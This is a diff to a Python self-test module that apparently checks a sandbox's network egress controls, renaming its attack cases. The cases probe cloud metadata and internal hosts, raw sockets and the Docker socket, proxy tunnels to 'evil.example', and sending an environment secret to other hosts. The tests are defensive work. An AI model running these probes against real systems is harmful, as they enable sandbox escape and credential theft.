@@ -1,11 +1,11 @@
-"""Attempts to reach, with a granted network, what was not granted."""
+"""Attacks that try to reach other hosts than the granted ones."""
 
 from __future__ import annotations
 
 from engine.sandbox.api.network_spec import Secret
 from engine.sandbox.selftest.attack_case import AttackCase, refused
 
-_INSIDE = {
+_INTERNAL = {
     "loopback.example.org": "127.0.0.1",
     "metadata.example.org": "169.254.169.254",
     "gateway.example.org": "172.17.0.1",
@@ -15,16 +15,16 @@ _INSIDE = {
 }
 _OPEN = "urllib.request.urlopen({!r}, timeout=5)"
 
-_OUTINGS = (
+_NETWORK = (
     refused(
-        "network, granted: hosts inside",
-        "a granted name leads to no service of the host, no peer and no metadata",
-        *(_OPEN.format(f"{scheme}://{name}/") for name in _INSIDE for scheme in ("http", "https")),
+        "granted network: internal hosts",
+        "a granted name cannot resolve to the host, a peer or a metadata service",
+        *(_OPEN.format(f"{scheme}://{name}/") for name in _INTERNAL for scheme in ("http", "https")),
         before="import urllib.request",
     ),
     refused(
-        "network, granted: other hosts",
-        "a grant of one name is a grant of no other, and of no address",
+        "granted network: other hosts",
+        "a grant of one name covers no other name and no address",
         *(
             _OPEN.format(url)
             for url in (
@@ -38,8 +38,8 @@ _OUTINGS = (
         before="import urllib.request",
     ),
     refused(
-        "network, granted: around the proxy",
-        "the proxy is the only way out: no socket, no name server, no datagram",
+        "granted network: bypassing the proxy",
+        "nothing leaves the sandbox except through the proxy",
         "socket.create_connection(('169.254.169.254', 80), 1)",
         "socket.create_connection(('172.17.0.1', 22), 1)",
         "socket.create_connection(('1.1.1.1', 53), 1)",
@@ -48,28 +48,28 @@ _OUTINGS = (
         "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
     ),
     AttackCase(
-        "network, granted: tunnels for others",
-        "a tunnel carries TLS for its own host and nothing else",
+        "granted network: tunnels to other hosts",
+        "a tunnel carries only TLS for its own host",
         "import socket\n"
-        "def through(host, said):\n"
+        "def through(host, data):\n"
         "    s = socket.create_connection(('127.0.0.1', 3128), 5)\n"
-        "    s.sendall(f'CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode() + said)\n"
+        "    s.sendall(f'CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode() + data)\n"
         "    got = b''\n"
         "    try:\n"
         "        while piece := s.recv(9999): got += piece\n"
         "    except OSError: pass\n"
         "    return got\n"
-        "tried = through('loopback.example.org:443', b''), through('evil.example:443', b'x'), "
+        "attack = through('loopback.example.org:443', b''), through('evil.example:443', b'x'), "
         "through('127.0.0.1:22', b''), through('granted.example.org:25', b'EHLO x')\n"
-        "print('held' if all(b' 403 ' in got.split(b'\\r\\n')[0] for got in tried) else tried)",
+        "print('held' if all(b' 403 ' in got.split(b'\\r\\n')[0] for got in attack) else attack)",
     ),
 )  # fmt: skip
 
 _SECRET = Secret("SELFTEST_TOKEN", "granted.example.org", "value-of-the-secret")
 
-_TAKEN = AttackCase(
-    "a secret, taken elsewhere",
-    "the guest never holds a secret, and its placeholder reaches no other host",
+_SECRETS = AttackCase(
+    "secrets sent to other hosts",
+    "the guest never has a secret, and its placeholder reaches no other host",
     "import base64, os, urllib.error, urllib.request\n"
     "mark = os.environ['SELFTEST_TOKEN']\n"
     "basic = 'Basic ' + base64.b64encode(b'x:' + mark.encode()).decode()\n"
@@ -84,9 +84,11 @@ _TAKEN = AttackCase(
 )
 
 
-def _granted(tried: AttackCase) -> AttackCase:
-    names = _INSIDE | {"granted.example.org": "192.0.2.1"}
-    return AttackCase(tried.name, tried.promise, tried.code, tried.ends, names=names, secrets=tried.secrets)
+def _granted(attack: AttackCase) -> AttackCase:
+    names = _INTERNAL | {"granted.example.org": "192.0.2.1"}
+    return AttackCase(
+        attack.name, attack.guarantee, attack.code, attack.ends, names=names, secrets=attack.secrets
+    )
 
 
-OUTINGS = tuple(_granted(tried) for tried in (*_OUTINGS, _TAKEN))
+EGRESS_ATTACKS = tuple(_granted(attack) for attack in (*_NETWORK, _SECRETS))
